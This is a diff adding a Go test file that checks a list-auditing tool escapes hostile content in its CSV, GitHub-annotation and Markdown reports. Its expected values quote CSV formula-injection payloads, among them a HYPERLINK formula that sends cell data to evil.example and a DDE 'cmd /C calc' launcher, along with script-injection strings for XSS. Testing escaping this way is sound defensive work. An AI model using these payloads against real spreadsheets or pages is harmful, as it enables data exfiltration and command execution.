@@ -1,0 +1,222 @@
+package report
+
+import (
+	"bytes"
+	"encoding/csv"
+	"strings"
+	"testing"
+
+	"github.com/listaudit/listaudit/pkg/domain"
+)
+
+// TestCSVInjection reads the CSV of hostile cells back and checks that no
+// cell a spreadsheet would evaluate is left as is.
+func TestCSVInjection(t *testing.T) {
+	out := render(t, "csv", hostileFixture(), Options{})
+	records, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+	if err != nil {
+		t.Fatalf("output is not CSV: %v\n%s", err, out)
+	}
+	if got := strings.Join(records[0], ","); got != "file,row,line,rule,severity,column,value,number,message" {
+		t.Errorf("header = %s", got)
+	}
+	for i, rec := range records[1:] {
+		for j, cell := range rec {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("record %d column %s: cell %q starts with a formula character", i+1, records[0][j], cell)
+			}
+		}
+	}
+	for _, want := range [][2]string{
+		{"file", `'=evil,dir/con:tacts.csv`},
+		{"value", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
+		{"message", `'=HYPERLINK("http://evil.example","x")`},
+		{"column", `'=cmd|' /C calc'!A0`},
+		{"value", "'@SUM(1+1)*cmd|' /C calc'!A0"},
+		{"message", "'@SUM(A1:A9)"},
+		{"value", "'-2+3"},
+		{"column", "'-col"},
+		{"value", "'\t=1"},
+		{"message", "'\t=1 tab first"},
+		{"column", "'\rcol"},
+		{"value", "'\r=1"},
+		{"value", "'+1+1"},
+		{"number", "'+2547******78"},
+	} {
+		col := strings.Index("file,row,line,rule,severity,column,value,number,message,", want[0]+",")
+		idx := strings.Count("file,row,line,rule,severity,column,value,number,message"[:col], ",")
+		found := false
+		for _, rec := range records[1:] {
+			if rec[idx] == want[1] {
+				found = true
+			}
+		}
+		if !found {
+			t.Errorf("no %s cell %q in\n%s", want[0], want[1], out)
+		}
+	}
+	// Harmless cells are left alone.
+	if !strings.Contains(string(out), "\nexports/crm.tsv,1,2,duplicate,warning,msisdn,") {
+		t.Errorf("plain cells changed:\n%s", out)
+	}
+}
+
+func TestNeutralise(t *testing.T) {
+	for in, want := range map[string]string{
+		"": "", "abc": "abc", "=1": "'=1", "+2547******78": "'+2547******78", "-": "'-", "@x": "'@x",
+		"\t=1": "'\t=1", "\r=1": "'\r=1", " =1": " =1", "'=1": "'=1", "a=1": "a=1",
+	} {
+		if got := neutralise(in); got != want {
+			t.Errorf("neutralise(%q) = %q, want %q", in, got, want)
+		}
+	}
+}
+
+func TestGitHubEscaping(t *testing.T) {
+	for in, want := range map[string]string{
+		"100% sure":      "100%25 sure",
+		"a\r\nb":         "a%0D%0Ab",
+		"x::error::evil": "x::error::evil",
+		"%0A":            "%250A",
+		"tab\tbell\a":    "tab\tbell?",
+	} {
+		if got := githubData(in); got != want {
+			t.Errorf("githubData(%q) = %q, want %q", in, got, want)
+		}
+	}
+	for in, want := range map[string]string{
+		"dir/a,b:c.csv": "dir/a%2Cb%3Ac.csv",
+		"50%\n":         "50%25%0A",
+	} {
+		if got := githubProperty(in); got != want {
+			t.Errorf("githubProperty(%q) = %q, want %q", in, got, want)
+		}
+	}
+
+	out := string(render(t, "github", hostileFixture(), Options{}))
+	for i, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
+		if !strings.HasPrefix(line, "::error ") && !strings.HasPrefix(line, "::warning ") && !strings.HasPrefix(line, "::notice") {
+			t.Errorf("line %d is not a workflow command: %q", i+1, line)
+		}
+		if strings.ContainsAny(line, "\r") {
+			t.Errorf("line %d holds a carriage return: %q", i+1, line)
+		}
+		// The properties end at the first "::" after the command name.
+		props := line[strings.Index(line, " ")+1:]
+		if j := strings.Index(props, "::"); j >= 0 {
+			props = props[:j]
+		}
+		for _, p := range strings.Split(props, ",") {
+			if p != "" && !strings.HasPrefix(p, "file=") && !strings.HasPrefix(p, "line=") && !strings.HasPrefix(p, "title=") {
+				t.Errorf("line %d: property %q (a comma or colon escaped badly)", i+1, p)
+			}
+		}
+	}
+	if !strings.Contains(out, "::warning file==evil%2Cdir/con%3Atacts.csv,line=9,title=consent-expired::Consent date: a | b") ||
+		!strings.Contains(out, "h%0Anext::error::x %250A 50%25, i:j") {
+		t.Errorf("hostile message not escaped as expected:\n%s", out)
+	}
+}
+
+func TestGitHubCap(t *testing.T) {
+	r := manyFindings(120) // 20 findings for each of 6 rules
+	out := string(render(t, "github", r, Options{}))
+	if got := strings.Count(out, "title=phone-invalid::"); got != 10 {
+		t.Errorf("%d phone-invalid annotations, want the default cap 10", got)
+	}
+	if !strings.Contains(out, "::notice::listaudit: 10 more phone-invalid findings not annotated (see the full report)\n") {
+		t.Errorf("no capped-rule notice:\n%s", out)
+	}
+	out = string(render(t, "github", r, Options{AnnotationsPerRule: -1}))
+	if got := strings.Count(out, "title=phone-invalid::"); got != 20 || strings.Contains(out, "more phone-invalid") {
+		t.Errorf("uncapped: %d phone-invalid annotations, want 20 and no notice", got)
+	}
+	last := out[strings.LastIndex(strings.TrimSuffix(out, "\n"), "\n")+1:]
+	if want := "::error title=listaudit::40 errors, 60 warnings, 20 info in 2 files: failed (fail-on: error)\n"; last != want {
+		t.Errorf("summary line %q, want %q", last, want)
+	}
+}
+
+func TestMarkdownEscaping(t *testing.T) {
+	for in, want := range map[string]string{
+		"a | b":                 `a \| b`,
+		"*x* _y_ `z` ~s~ $m$":   "\\*x\\* \\_y\\_ \\`z\\` \\~s\\~ \\$m\\$",
+		"[l](http://x)":         `\[l\](http://x)`,
+		"<img src=x> & </td>":   `\<img src=x\> \& \</td\>`,
+		"line\nbreak\r\ttab":    "line break  tab",
+		"back\\slash":           `back\\slash`,
+		"bell\a \u202eevil":     "bell? ?evil",
+		"plain: 5 (max 2), ok.": "plain: 5 (max 2), ok.",
+	} {
+		if got := markdownText(in); got != want {
+			t.Errorf("markdownText(%q) = %q, want %q", in, got, want)
+		}
+	}
+	if got := markdownCode("+2547******78"); got != "`+2547******78`" {
+		t.Errorf("markdownCode = %q", got)
+	}
+	if got := markdownCode("a`b|c"); got != "a\\`b\\|c" {
+		t.Errorf("markdownCode with a backtick = %q", got)
+	}
+
+	out := string(render(t, "markdown", hostileFixture(), Options{}))
+	for i, line := range strings.Split(out, "\n") {
+		if !strings.HasPrefix(line, "|") {
+			continue
+		}
+		// Every row of a findings table has 4 cells: 5 unescaped pipes.
+		unescaped := strings.Count(line, "|") - strings.Count(line, `\|`)
+		if unescaped != 5 && unescaped != 4 && unescaped != 3 {
+			t.Errorf("line %d has %d cell separators: %q", i+1, unescaped, line)
+		}
+		for _, bad := range []string{"<img", "</script", "](http", "*c*", "`e`"} {
+			if j := strings.Index(line, bad); j >= 0 && (j == 0 || line[j-1] != '\\') {
+				t.Errorf("line %d keeps markup %q unescaped: %q", i+1, bad, line)
+			}
+		}
+	}
+	if !strings.Contains(out, `| Consent date: a \| b \*c\* \_d\_ \[l\](http://x) \<img src=x onerror=alert(1)\> \</script\>\<script\>alert(2)\</script\> \`+"`"+`e\`+"`"+` \~f\~ \$g\$ \& h next::error::x %0A 50%, i:j |`) {
+		t.Errorf("hostile message not escaped as expected:\n%s", out)
+	}
+}
+
+func TestMarkdownFirstFindingsPerRule(t *testing.T) {
+	out := string(render(t, "markdown", manyFindings(60), Options{}))
+	if got := strings.Count(out, "| `+2547"); got != 6*markdownPerRule {
+		t.Errorf("%d finding rows, want %d", got, 6*markdownPerRule)
+	}
+	if !strings.Contains(out, "\n… and 5 more (see the full report).\n") {
+		t.Errorf("no more line:\n%s", out)
+	}
+	if !strings.HasPrefix(out, "## ❌ listaudit: failed\n") {
+		t.Errorf("heading: %q", out[:40])
+	}
+	pass := fixtureFailOn(domain.Threshold{Never: true})()
+	if out := string(render(t, "markdown", pass, Options{})); !strings.HasPrefix(out, "## ✅ listaudit: passed\n") {
+		t.Errorf("heading of a passing run: %q", out[:40])
+	}
+}
+
+// TestDeterministic renders every format twice and compares.
+func TestDeterministic(t *testing.T) {
+	for _, name := range Formats() {
+		a := render(t, name, manyFindings(300), Options{})
+		b := render(t, name, manyFindings(300), Options{})
+		if !bytes.Equal(a, b) {
+			t.Errorf("%s output differs between two runs", name)
+		}
+	}
+}
+
+// TestUnknownRule checks a finding of a rule the catalogue lacks still
+// shows in the formats that list rules.
+func TestUnknownRule(t *testing.T) {
+	r := fixture()
+	r.Findings[0].Rule = "zz-custom"
+	r.Decide()
+	for _, name := range []string{"sarif", "junit", "html", "markdown"} {
+		if out := render(t, name, r, Options{}); !bytes.Contains(out, []byte("zz-custom")) {
+			t.Errorf("%s output does not name the unknown rule", name)
+		}
+	}
+}
